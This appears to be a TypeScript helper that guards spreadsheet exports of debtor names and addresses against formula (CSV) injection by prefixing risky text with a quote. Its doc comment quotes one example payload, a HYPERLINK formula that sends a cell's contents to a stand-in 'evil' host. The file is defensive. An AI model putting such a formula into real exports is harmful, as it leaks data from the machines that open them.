/**
 * A text a spreadsheet will not run. Excel, LibreOffice and Google Sheets read a cell that starts
 * with `=`, `+`, `-` or `@` (and, after a tab or carriage return, what follows) as a formula, so
 * a debtor's name or address like `=HYPERLINK("http://evil/?"&A1)` in an export would run on the
 * client's or the print house's machine (OWASP "CSV injection"). Such a text gets a leading `'`,
 * which the spreadsheet shows as text and does not print. A plain number (`-12.50`, `+3`) is data,
 * not a formula, and stays as it is, so amounts remain numbers.
 *
 * Every export cell that holds text from outside (names, addresses, references, labels) goes
 * through this one function: remittance statements (CSV and XLSX), the print-house manifest.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(?:[.,]\d+)?$/;

export function spreadsheetText(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}
